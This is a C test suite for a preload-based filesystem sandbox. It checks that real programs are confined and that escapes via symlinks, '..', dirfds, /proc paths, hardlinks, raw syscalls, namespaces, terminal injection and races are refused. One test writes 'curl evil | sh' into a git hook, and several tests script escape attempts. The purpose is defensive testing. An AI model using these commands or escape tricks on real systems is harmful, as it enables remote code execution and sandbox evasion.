/* Real programs under the shim, and the ways a path can try to get past it:
 * symlinks, "..", dirfds, /proc and /dev/fd paths, races.  Each case runs a
 * real process and asserts the exit status, the message and what is on
 * disk afterwards. */
#include <check.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "util.h"

static char *ws, *out; /* workspace (writable) and a place outside it */
static char script[16384];

static void setup(void)
{
	ws = sbt_tmpdir(false);
	out = sbt_tmpdir(true);
	char p[PATH_MAX];
	snprintf(p, sizeof(p), "%s/file", out);
	sbt_write(p, "original\n");
	snprintf(p, sizeof(p), "%s/secret", out);
	sbt_write(p, "s3cret\n");
}

static void teardown(void)
{
	sbt_rmrf(ws);
	sbt_rmrf(out);
	free(ws);
	free(out);
}

/* Format into SCRIPT with {W} = workspace and {O} = outside expanded. */
static const char *S(const char *tmpl)
{
	size_t o = 0;
	for (const char *t = tmpl; *t && o < sizeof(script) - PATH_MAX; t++) {
		if (t[0] == '{' && (t[1] == 'W' || t[1] == 'O') && t[2] == '}') {
			o += (size_t)snprintf(script + o, sizeof(script) - o, "%s", t[1] == 'W' ? ws : out);
			t += 2;
		} else {
			script[o++] = *t;
		}
	}
	script[o] = '\0';
	return script;
}

static char *P(const char *fmt, const char *rel)
{
	static char buf[4][PATH_MAX];
	static int k;
	char *b = buf[k++ % 4];
	snprintf(b, PATH_MAX, "%s/%s", fmt[0] == 'W' ? ws : out, rel);
	return b;
}

#define RUN(ini, tmpl) sbt_sh(&r, ini, ws, S(tmpl))
#define ERR_HAS(s) ck_assert_msg(strstr(r.err, s), "stderr lacks '%s':\n%s", s, r.err)
#define UNCHANGED() ck_assert_str_eq(sbt_read(P("O", "file")), "original\n")

static struct sbt_run r;

/* --- everyday programs ---------------------------------------------------- */

START_TEST(t_sh_redirect)
{
	ck_assert_int_eq(RUN(NULL, "echo hello > f && cat f"), 0);
	ck_assert_str_eq(r.out, "hello\n");
	ck_assert_int_ne(RUN(NULL, "echo x > {O}/new"), 0);
	ck_assert(!sbt_exists(P("O", "new")));
	ERR_HAS(S("sbpreload: denied write '{O}/new': outside the writable paths (writable: "));
	ERR_HAS("/tmp)");
}
END_TEST

START_TEST(t_cp_mv)
{
	ck_assert_int_eq(RUN(NULL, "cp /etc/hostname h && mv h h2 && cat h2 >/dev/null"), 0);
	ck_assert(sbt_exists(P("W", "h2")));
	ck_assert_int_ne(RUN(NULL, "cp /etc/hostname {O}/h"), 0);
	ck_assert(!sbt_exists(P("O", "h")));
	ERR_HAS("sbpreload: denied write");
	ck_assert_int_ne(RUN(NULL, "mv h2 {O}/h2"), 0);
	ck_assert(sbt_exists(P("W", "h2")));
	ck_assert(!sbt_exists(P("O", "h2")));
	/* Moving a file in from outside removes it there: refused. */
	ck_assert_int_ne(RUN(NULL, "mv {O}/file ./stolen"), 0);
	UNCHANGED();
}
END_TEST

/* A directory moved to where a rule protects what it holds would bring
 * protected paths with it: refused, while files still move freely. */
START_TEST(t_move_dir_protected)
{
	char ini[2048];
	snprintf(ini, sizeof(ini),
		 "[filesystem]\nwrite = .\ndeny_write = %s/prot/*.conf, %s/.github/workflows, %s/keys/**/*.pem\n", ws,
		 ws, ws);
	ck_assert_int_ne(RUN(ini, "mkdir a && echo evil > a/x.conf && mv a prot"), 0);
	ck_assert(!sbt_exists(P("W", "prot/x.conf")));
	ck_assert(sbt_exists(P("W", "a/x.conf")));
	ERR_HAS(S("sbpreload: denied write 'prot' (resolved '{W}/prot'): moving a directory there would carry "
		  "paths into or out of what '{W}/prot/*.conf' protects"));
	ck_assert_int_ne(RUN(ini, "mkdir -p g/workflows && echo evil > g/workflows/ci.yml && mv g .github"), 0);
	ck_assert(!sbt_exists(P("W", ".github/workflows/ci.yml")));
	/* In or out of the root of a "**" rule, by rename(2) itself. */
	ck_assert_int_ne(RUN(ini, "mkdir -p keys k && echo k > k/id.pem && "
				  "python3 -c \"import os; os.rename('k', 'keys/k')\""),
			 0);
	ck_assert(!sbt_exists(P("W", "keys/k/id.pem")));
	ERR_HAS("PermissionError");
	ck_assert_int_ne(RUN(ini, "mkdir -p keys/d && mv keys/d out"), 0);
	ck_assert(sbt_exists(P("W", "keys/d")));
	/* Inside the root, or a plain file: allowed. */
	ck_assert_int_eq(RUN(ini, "mkdir -p keys/e keys/f && mv keys/e keys/f/e && mkdir -p prot && echo x > f.conf && "
				  "mv f.conf prot/y.txt && echo y > keys/n.txt && mv keys/n.txt n.txt && mkdir b && mv b prot2"),
			 0);
	ck_assert(sbt_exists(P("W", "keys/f/e")));
	ck_assert(sbt_exists(P("W", "prot/y.txt")));
	ck_assert(sbt_exists(P("W", "n.txt")));
	ck_assert(sbt_exists(P("W", "prot2")));
	/* Through a symlinked parent the path as written is judged too; a
	 * file still holds nothing. */
	snprintf(ini, sizeof(ini), "[filesystem]\nwrite = .\ndeny_write = %s/sl/*/x.conf\n", ws);
	ck_assert_int_eq(RUN(ini, "mkdir real && ln -s real sl && echo t > real/f && mv sl/f g"), 0);
	ck_assert(sbt_exists(P("W", "g")));
}
END_TEST

/* --- the pin cache ----------------------------------------------------------- */

/* The shim keeps the directories it pinned open for later calls
 * (shim/pincache.c).  A kept directory that was moved or removed since is
 * not acted in, whichever process of the session moved it; and descriptor
 * numbers the program closes or overwrites are never taken for kept ones,
 * even when they come back as a directory outside the writable paths. */
static const char pin_script[] =
	"import ctypes, os, sys\n"
	"out = sys.argv[1]\n"
	"def pins():\n"
	"    return [int(n) for n in os.listdir('/proc/self/fd') if int(n) >= 256]\n"
	"os.mkdir('a'); os.mkdir('a/p'); os.rmdir('a/p')\n"
	"if not pins(): sys.exit(7)\n"
	"os.rename('a', 'b'); os.mkdir('a'); os.mkdir('a/y')\n"
	"if os.listdir('b') or not os.path.isdir('a/y'): sys.exit(8)\n"
	"os.system('mv a c && mkdir a'); os.mkdir('a/z')\n"
	"if os.listdir('c') != ['y'] or not os.path.isdir('a/z'): sys.exit(9)\n"
	"os.system('rm -r a && mkdir a'); os.mkdir('a/w')\n"
	"os.mkdir('a/p'); os.rmdir('a/p')\n"
	"d = os.open(out, os.O_RDONLY | os.O_DIRECTORY)\n"
	"for n in pins():\n"
	"    if n != d: os.dup2(d, n)\n"
	"os.mkdir('a/v')\n"
	"os.mkdir('a/p'); os.rmdir('a/p')\n"
	"for n in pins(): ctypes.CDLL(None).syscall(3, n)\n"
	"os.mkdir('a/s')\n"
	"os.mkdir('a/p'); os.rmdir('a/p')\n"
	"os.closerange(3, 4096)\n"
	"fds = [os.open(out, os.O_RDONLY | os.O_DIRECTORY) for i in range(700)]\n"
	"os.mkdir('a/u')\n"
	"open('a/f1', 'w').close(); open('a/f2', 'w').close(); os.rename('a/f2', 'a/f3')\n"
	"print('done')\n";

START_TEST(t_pin_cache)
{
	sbt_write(P("W", "pins.py"), pin_script);
	ck_assert_int_eq(RUN(NULL, "python3 pins.py {O} && echo ok"), 0);
	ck_assert_msg(strstr(r.out, "done"), "stdout: %s\nstderr: %s", r.out, r.err);
	const char *in_a[] = {"w", "v", "s", "u", "f1", "f3"};
	for (size_t i = 0; i < sizeof(in_a) / sizeof(in_a[0]); i++) {
		char rel[16];
		snprintf(rel, sizeof(rel), "a/%s", in_a[i]);
		ck_assert_msg(sbt_exists(P("W", rel)), "%s is missing", rel);
		ck_assert_msg(!sbt_exists(P("O", in_a[i])), "%s landed outside", in_a[i]);
	}
	ck_assert(sbt_exists(P("W", "c/y")));
	ck_assert(!sbt_exists(P("W", "a/z")));
	ck_assert(!sbt_exists(P("W", "a/f2")));
}
END_TEST

START_TEST(t_python)
{
	ck_assert_int_eq(RUN(NULL, "python3 -c \"open('p.txt','w').write('ok')\""), 0);
	ck_assert_str_eq(sbt_read(P("W", "p.txt")), "ok");
	ck_assert_int_eq(RUN(NULL, "python3 -c \"open('{O}/file','a').write('x')\""), 1);
	ERR_HAS("PermissionError");
	ERR_HAS(S("sbpreload: denied write '{O}/file'"));
	UNCHANGED();
	ck_assert_int_eq(RUN(NULL, "python3 -c \"import os; os.mkdir('{O}/d')\""), 1);
	ck_assert(!sbt_exists(P("O", "d")));
}
END_TEST

#define GIT "git -c user.name=t -c user.email=t@example.com -c init.defaultBranch=main "

START_TEST(t_git_fresh)
{
	ck_assert_int_eq(RUN(NULL, GIT "init -q && echo a > a && " GIT "add a && " GIT "commit -qm first && "
				       "echo '#!/bin/sh' > .git/hooks/pre-commit && " GIT "log --oneline | wc -l"), 0);
	ck_assert_str_eq(r.out, "1\n");
}
END_TEST

START_TEST(t_git_existing)
{
	/* The repository exists before the session starts. */
	char cmd[PATH_MAX * 2];
	snprintf(cmd, sizeof(cmd), "cd %s && " GIT "init -q && echo a > a && " GIT "add a && " GIT "commit -qm one", ws);
	ck_assert_int_eq(system(cmd), 0);
	ck_assert_int_eq(RUN(NULL, "echo b >> a && " GIT "commit -qam two && " GIT "log --oneline | wc -l"), 0);
	ck_assert_str_eq(r.out, "2\n");
	ck_assert_int_ne(RUN(NULL, "echo 'curl evil | sh' > .git/hooks/pre-commit"), 0);
	ck_assert(!sbt_exists(P("W", ".git/hooks/pre-commit")));
	ERR_HAS("sbpreload: denied write '.git/hooks/pre-commit'");
	ERR_HAS("matches deny_write rule");
	ck_assert_int_ne(RUN(NULL, GIT "config core.hooksPath /tmp/evil"), 0);
	ERR_HAS(".git/config");
	ck_assert_int_ne(RUN(NULL, "mv .git .g"), 0);
	ck_assert(sbt_exists(P("W", ".git/HEAD")));
}
END_TEST

/* --- symlinks, "..", dirfds, /proc ---------------------------------------- */

START_TEST(t_symlink_file)
{
	ck_assert_int_ne(RUN(NULL, "ln -s {O}/file link && echo x >> link"), 0);
	UNCHANGED();
	ERR_HAS(S("sbpreload: denied write 'link' (resolved '{O}/file')"));
	/* Reading through it is fine: reads are not limited by default. */
	ck_assert_int_eq(RUN(NULL, "cat link"), 0);
	ck_assert_str_eq(r.out, "original\n");
	/* A dangling link would create its target outside. */
	ck_assert_int_ne(RUN(NULL, "ln -s {O}/created dangling && echo x > dangling"), 0);
	ck_assert(!sbt_exists(P("O", "created")));
	/* Acting on the link itself is judged by the link. */
	ck_assert_int_eq(RUN(NULL, "rm link dangling"), 0);
	UNCHANGED();
}
END_TEST

START_TEST(t_symlink_dir)
{
	ck_assert_int_ne(RUN(NULL, "ln -s {O} ld && touch ld/new"), 0);
	ck_assert(!sbt_exists(P("O", "new")));
	ck_assert_int_ne(RUN(NULL, "mkdir ld/sub"), 0);
	ck_assert(!sbt_exists(P("O", "sub")));
	ck_assert_int_ne(RUN(NULL, "rm ld/file"), 0);
	UNCHANGED();
	ck_assert_int_ne(RUN(NULL, "mv ld/file x"), 0);
	UNCHANGED();
	ck_assert_int_ne(RUN(NULL, "chmod 600 ld/file"), 0);
	struct stat st;
	ck_assert_int_eq(stat(P("O", "file"), &st), 0);
	ck_assert_int_ne(st.st_mode & 07777, 0600);
}
END_TEST

START_TEST(t_dotdot)
{
	ck_assert_int_ne(RUN(NULL, "mkdir -p a/b && cd a/b && echo x > ../../../../../../../..{O}/dd"), 0);
	ck_assert(!sbt_exists(P("O", "dd")));
	ck_assert_int_eq(RUN(NULL, "mkdir -p a/b && echo x > a/b/../c && cat a/c"), 0);
	ck_assert_str_eq(r.out, "x\n");
	/* ".." after a symlink goes where the kernel goes, not lexically. */
	ck_assert_int_ne(RUN(NULL, "mkdir -p {O}/deep/er && ln -s {O}/deep/er up && echo x > up/../escaped"), 0);
	ck_assert(!sbt_exists(P("O", "deep/escaped")));
}
END_TEST

START_TEST(t_proc_paths)
{
	ck_assert_int_ne(RUN(NULL, "echo x > /proc/self/root{O}/p1"), 0);
	ck_assert(!sbt_exists(P("O", "p1")));
	ck_assert_int_ne(RUN(NULL, "cd {O} && echo x > /proc/self/cwd/p2"), 0);
	ck_assert(!sbt_exists(P("O", "p2")));
	/* A read-only descriptor does not become writable through /proc. */
	ck_assert_int_ne(RUN(NULL, "exec 3< {O}/file; echo x > /proc/self/fd/3"), 0);
	UNCHANGED();
	ck_assert_int_ne(RUN(NULL, "exec 3< {O}/file; echo x > /dev/fd/3"), 0);
	UNCHANGED();
	/* ...while the usual uses of /dev/stdout and /dev/null work. */
	ck_assert_int_eq(RUN(NULL, "echo hi > /dev/stdout; echo x > /dev/null; cat /proc/self/status >/dev/null"), 0);
	ck_assert_str_eq(r.out, "hi\n");
}
END_TEST

START_TEST(t_dirfd)
{
	ck_assert_int_ne(RUN(NULL, "python3 -c \"import os; d=os.open('{O}', os.O_RDONLY); "
				   "os.open('viafd', os.O_WRONLY|os.O_CREAT, 0o644, dir_fd=d)\""), 0);
	ck_assert(!sbt_exists(P("O", "viafd")));
	ERR_HAS("PermissionError");
	ck_assert_int_ne(RUN(NULL, "python3 -c \"import os; d=os.open('{O}', os.O_RDONLY); "
				   "open('/dev/fd/%d/viadevfd' % d, 'w')\""), 0);
	ck_assert(!sbt_exists(P("O", "viadevfd")));
	ck_assert_int_ne(RUN(NULL, "python3 -c \"import os; d=os.open('{O}', os.O_RDONLY); "
				   "os.unlink('file', dir_fd=d)\""), 0);
	UNCHANGED();
	/* The same through a workspace dirfd works. */
	ck_assert_int_eq(RUN(NULL, "python3 -c \"import os; d=os.open('.', os.O_RDONLY); "
				   "os.close(os.open('viafd', os.O_WRONLY|os.O_CREAT, 0o644, dir_fd=d))\""), 0);
	ck_assert(sbt_exists(P("W", "viafd")));
}
END_TEST

START_TEST(t_hardlink)
{
	/* A second name for a file outside would let writes reach it. */
	ck_assert_int_ne(RUN(NULL, "ln {O}/file hard"), 0);
	ck_assert(!sbt_exists(P("W", "hard")));
	ERR_HAS(S("denied write '{O}/file'"));
}
END_TEST

START_TEST(t_read_deny)
{
	const char *ini = S("[filesystem]\ndeny += {O}/secret\n");
	char saved[PATH_MAX];
	snprintf(saved, sizeof(saved), "%s", ini);
	ck_assert_int_ne(RUN(saved, "cat {O}/secret"), 0);
	ERR_HAS(S("sbpreload: denied read '{O}/secret': matches deny rule '{O}/secret'"));
	ck_assert_ptr_null(strstr(r.out, "s3cret"));
	ck_assert_int_ne(RUN(saved, "ln -s {O}/secret s && cat s"), 0);
	ck_assert_ptr_null(strstr(r.out, "s3cret"));
	ck_assert_int_ne(RUN(saved, "cat /proc/self/root{O}/secret"), 0);
	ck_assert_ptr_null(strstr(r.out, "s3cret"));
	ck_assert_int_eq(RUN(saved, "cat {O}/file"), 0);
}
END_TEST

START_TEST(t_large_file)
{
	/* Over 2 GiB: the shim's openat2 must ask for O_LARGEFILE. */
	ck_assert_int_eq(RUN(NULL, "truncate -s 3G big && python3 -c \"f=open('big','rb'); f.seek(3*2**30-1); "
				   "print(len(f.read()))\""), 0);
	ck_assert_str_eq(r.out, "1\n");
}
END_TEST

START_TEST(t_enoent_is_kernels)
{
	ck_assert_int_ne(RUN(NULL, "python3 -c \"open('{O}/no/such/dir/f','w')\""), 0);
	ERR_HAS("FileNotFoundError");
	ck_assert_int_ne(RUN(NULL, "python3 -c \"open('nodir/f','w')\""), 0);
	ERR_HAS("FileNotFoundError");
	ck_assert_ptr_null(strstr(r.err, "sbpreload:"));
}
END_TEST

/* Relative paths follow the current directory, however it changed. */
START_TEST(t_chdir)
{
	ck_assert_int_ne(RUN(NULL, "cd {O} && echo x > rel1"), 0);
	ck_assert(!sbt_exists(P("O", "rel1")));
	ERR_HAS(S("denied write 'rel1' (resolved '{O}/rel1')"));
	/* A directory renamed under a process: relative paths land in it. */
	ck_assert_int_eq(RUN(NULL, "mkdir d1 && cd d1 && echo 1 > one && mv {W}/d1 {W}/d2 && echo 2 > two && cat two"), 0);
	ck_assert(sbt_exists(P("W", "d2/two")));
}
END_TEST

/* Ways around any path policy that are no path at all. */
START_TEST(t_namespaces_and_terminal)
{
	/* A new user and mount namespace could bind-mount an outside tree
	 * into the workspace. */
	ck_assert_int_ne(RUN(NULL, "unshare -U -r true"), 0);
	ERR_HAS("sbpreload: denied unshare: new user or mount namespaces could mount around the policy");
	ck_assert_int_ne(RUN(NULL, "mkdir m && mount --bind {O} m"), 0);
	ck_assert(!sbt_exists(P("W", "m/file")));
	/* Input pushed into the terminal would run in the user's shell later. */
	ck_assert_int_eq(RUN(NULL, "python3 -c \"import fcntl, termios, os; fd = os.open('/dev/null', os.O_RDONLY)\n"
				   "try: fcntl.ioctl(fd, termios.TIOCSTI, b'x'); print('pushed')\n"
				   "except PermissionError: print('refused')\""), 0);
	ck_assert_str_eq(r.out, "refused\n");
	ERR_HAS("sbpreload: denied ioctl TIOCSTI: typing into the terminal would run commands outside the sandbox");
}
END_TEST

/* Names the kernel refuses are refused as the kernel does, never cut to fit. */
START_TEST(t_long_names)
{
	ck_assert_int_eq(RUN(NULL, "python3 -c \"import os\n"
				   "for p in ['x' * 256, 'd/' + 'x' * 256, '/tmp/' + 'y' * 300, 'z/' * 2100]:\n"
				   "    try: open(p, 'w'); print('created')\n"
				   "    except OSError as e: print(e.errno)\n"
				   "open('x' * 255, 'w'); os.unlink('x' * 255); print('ok')\""), 0);
	ck_assert_str_eq(r.out, "36\n2\n36\n36\nok\n"); /* as without the shim: d/ is missing */
	ck_assert_ptr_null(strstr(r.err, "sbpreload:"));
}
END_TEST

/* syscall(2) by number goes through the same checks as the wrappers.  Each
 * script exits 0 when the call failed as it should. */
START_TEST(t_raw_syscall_function)
{
	ck_assert_int_eq(RUN(NULL, "python3 -c \"import ctypes, os; libc = ctypes.CDLL(None, use_errno=True); "
				   "fd = libc.syscall(257, -100, b'{O}/viasyscall', 0o101, 0o644); "
				   "print(fd, os.strerror(ctypes.get_errno())); exit(fd >= 0)\""), 0);
	ck_assert(!sbt_exists(P("O", "viasyscall")));
	ck_assert_str_eq(r.out, "-1 Permission denied\n");
	ERR_HAS(S("sbpreload: denied write '{O}/viasyscall'"));
	/* openat2 by number, and renameat2 (no glibc wrapper before 2.28). */
	ck_assert_int_eq(RUN(NULL, "python3 -c \"import ctypes, struct; libc = ctypes.CDLL(None, use_errno=True); "
				   "how = struct.pack('QQQ', 0o101, 0o644, 0); "
				   "exit(libc.syscall(437, -100, b'{O}/via2', how, 24) >= 0)\""), 0);
	ck_assert(!sbt_exists(P("O", "via2")));
	ck_assert_int_eq(RUN(NULL, "python3 -c \"import ctypes; libc = ctypes.CDLL(None, use_errno=True); "
				   "exit(libc.syscall(316, -100, b'{O}/file', -100, b'stolen', 0) == 0)\""), 0);
	UNCHANGED();
	/* Allowed ones still work. */
	ck_assert_int_eq(RUN(NULL, "python3 -c \"import ctypes, os; libc = ctypes.CDLL(None, use_errno=True); "
				   "fd = libc.syscall(257, -100, b'ok', 0o101, 0o644); exit(fd < 0)\""), 0);
	ck_assert(sbt_exists(P("W", "ok")));
}
END_TEST

/* --- races --------------------------------------------------------------- */

static void race(const char *mode)
{
	char pol[] = "[sandbox]\nmessages = none\n";
	char *env = sbt_policy_env(pol, ws);
	char *extra[] = {env, NULL};
	char flipper[PATH_MAX];
	snprintf(flipper, sizeof(flipper), "%s", sbt_path("tests/flipper"));
	char *argv[] = {flipper, (char *)mode, ws, out, "3000", NULL};
	int st = sbt_exec(&r, ws, true, extra, argv);
	ck_assert_msg(st == 0, "flipper %s: status %d: %s", mode, st, r.err);
	free(env);
	long ok = -1, denied = -1;
	ck_assert_int_eq(sscanf(r.out, "ok=%ld denied=%ld", &ok, &denied), 2);
	fprintf(stderr, "race %s: %ld allowed, %ld refused\n", mode, ok, denied);
	ck_assert_int_gt(ok + denied, 0);
}

START_TEST(t_race_final)
{
	char p[PATH_MAX];
	snprintf(p, sizeof(p), "%s/victim", out);
	sbt_write(p, "original\n");
	race("final");
	ck_assert_str_eq(sbt_read(p), "original\n");
}
END_TEST

START_TEST(t_race_truncate)
{
	char p[PATH_MAX];
	snprintf(p, sizeof(p), "%s/victim", out);
	sbt_write(p, "original\n");
	race("truncate");
	ck_assert_str_eq(sbt_read(p), "original\n");
}
END_TEST

/* Another thread changes the cwd between the check and the call. */
START_TEST(t_race_cwd)
{
	race("cwd");
	ck_assert(!sbt_exists(P("O", "f")));
}
END_TEST

START_TEST(t_race_dir)
{
	race("dir");
	ck_assert(!sbt_exists(P("O", "f")));
	race("mkdir");
	ck_assert(!sbt_exists(P("O", "sub")));
}
END_TEST

/* --- modes, messages, log ------------------------------------------------ */

START_TEST(t_audit_and_quiet)
{
	ck_assert_int_eq(RUN("[sandbox]\nmode = audit\n", "echo x > {O}/aud"), 0);
	ck_assert(sbt_exists(P("O", "aud")));
	ERR_HAS(S("sbpreload: would deny write '{O}/aud'"));
	ck_assert_int_ne(RUN("[sandbox]\nmessages = none\n", "echo x > {O}/q 2>/dev/null; echo x > {O}/q"), 0);
	ck_assert(!sbt_exists(P("O", "q")));
	ck_assert_ptr_null(strstr(r.err, "sbpreload:"));
}
END_TEST

START_TEST(t_shim_alone)
{
	char ini[PATH_MAX], cfg[PATH_MAX * 2], logp[PATH_MAX];
	snprintf(logp, sizeof(logp), "%s/log.jsonl", out);
	snprintf(ini, sizeof(ini), "%s/policy.ini", ws);
	snprintf(cfg, sizeof(cfg), "[sandbox]\nlog = %s\n[filesystem]\nwrite = .\n", logp);
	sbt_write(ini, cfg);
	char env1[PATH_MAX + 32];
	snprintf(env1, sizeof(env1), "SBPRELOAD_CONFIG=%s", ini);
	char *extra[] = {env1, NULL};
	char *argv[] = {"sh", "-c", (char *)S("sh -c 'echo x > {O}/a1'; echo y > {O}/a2; echo z > /tmp/sbpt-a3-$$; "
					    "echo w > policy.ini; echo v > {O}/log.jsonl; true"),
			NULL};
	ck_assert_int_eq(sbt_exec(&r, ws, true, extra, argv), 0);
	ck_assert(!sbt_exists(P("O", "a1")));
	ck_assert(!sbt_exists(P("O", "a2")));
	/* Said once per session, not once per process. */
	char *first = strstr(r.err, "no kernel layer");
	ck_assert_ptr_nonnull(first);
	ck_assert_ptr_null(strstr(first + 1, "no kernel layer"));
	/* /tmp is not writable under this config; the policy file and the
	 * log are never writable from inside. */
	ERR_HAS("denied write '/tmp/sbpt-a3-");
	ERR_HAS("denied write 'policy.ini'");
	ERR_HAS(S("denied write '{O}/log.jsonl'"));
	ck_assert_str_eq(sbt_read(ini), cfg);
	char *log = sbt_read(logp);
	ck_assert_ptr_nonnull(log);
	int lines = 0;
	for (char *l = log; (l = strchr(l, '\n')); l++)
		lines++;
	ck_assert_int_eq(lines, 5);
	ck_assert(strstr(log, "\"op\":\"write\""));
	ck_assert(strstr(log, "\"decision\":\"deny\""));
	ck_assert(strstr(log, S("\"target\":\"{O}/a1\"")));
	ck_assert(strstr(log, "\"exe\":\"/usr/bin/dash\"") || strstr(log, "\"exe\":\"/bin/dash\""));
	ck_assert(strstr(log, "\"reason\":\"outside the writable paths"));
	ck_assert(strstr(log, "\"rule\":null"));
	ck_assert(strstr(log, "\"call\":\"open"));
	free(log);
}
END_TEST

START_TEST(t_shim_alone_bad_config)
{
	char ini[PATH_MAX], env1[PATH_MAX + 32];
	snprintf(ini, sizeof(ini), "%s/bad.ini", ws);
	sbt_write(ini, "[sandbox]\nmode = enforce\n[filesystem]\nwrite = /a/[b\n");
	snprintf(env1, sizeof(env1), "SBPRELOAD_CONFIG=%s", ini);
	char *extra[] = {env1, NULL};
	char *argv[] = {"sh", "-c", "echo ran", NULL};
	ck_assert_int_eq(sbt_exec(&r, ws, true, extra, argv), 125);
	ck_assert_ptr_null(strstr(r.out, "ran"));
	char exp[PATH_MAX + 64];
	snprintf(exp, sizeof(exp), "sbpreload: %s:4: write: invalid path or glob", ini);
	ERR_HAS(exp);
}
END_TEST

START_TEST(t_bad_policy_env)
{
	char *extra[] = {"SBPRELOAD_POLICY=AAAA", NULL};
	char *argv[] = {"sh", "-c", "echo ran", NULL};
	ck_assert_int_eq(sbt_exec(&r, ws, true, extra, argv), 125);
	ck_assert_ptr_null(strstr(r.out, "ran"));
	ERR_HAS("sbpreload: SBPRELOAD_POLICY does not hold a valid policy");
}
END_TEST

static Suite *suite(void)
{
	Suite *s = suite_create("programs");
	TCase *tc = tcase_create("programs");
	tcase_add_checked_fixture(tc, setup, teardown);
	tcase_set_timeout(tc, 120);
	tcase_add_test(tc, t_sh_redirect);
	tcase_add_test(tc, t_cp_mv);
	tcase_add_test(tc, t_move_dir_protected);
	tcase_add_test(tc, t_pin_cache);
	tcase_add_test(tc, t_python);
	tcase_add_test(tc, t_git_fresh);
	tcase_add_test(tc, t_git_existing);
	tcase_add_test(tc, t_symlink_file);
	tcase_add_test(tc, t_symlink_dir);
	tcase_add_test(tc, t_dotdot);
	tcase_add_test(tc, t_proc_paths);
	tcase_add_test(tc, t_dirfd);
	tcase_add_test(tc, t_hardlink);
	tcase_add_test(tc, t_read_deny);
	tcase_add_test(tc, t_large_file);
	tcase_add_test(tc, t_enoent_is_kernels);
	tcase_add_test(tc, t_raw_syscall_function);
	tcase_add_test(tc, t_chdir);
	tcase_add_test(tc, t_namespaces_and_terminal);
	tcase_add_test(tc, t_long_names);
	tcase_add_test(tc, t_race_final);
	tcase_add_test(tc, t_race_dir);
	tcase_add_test(tc, t_race_truncate);
	tcase_add_test(tc, t_race_cwd);
	tcase_add_test(tc, t_audit_and_quiet);
	tcase_add_test(tc, t_shim_alone);
	tcase_add_test(tc, t_shim_alone_bad_config);
	tcase_add_test(tc, t_bad_policy_env);
	suite_add_tcase(s, tc);
	return s;
}

int main(void)
{
	return sbt_run_suite(suite());
}
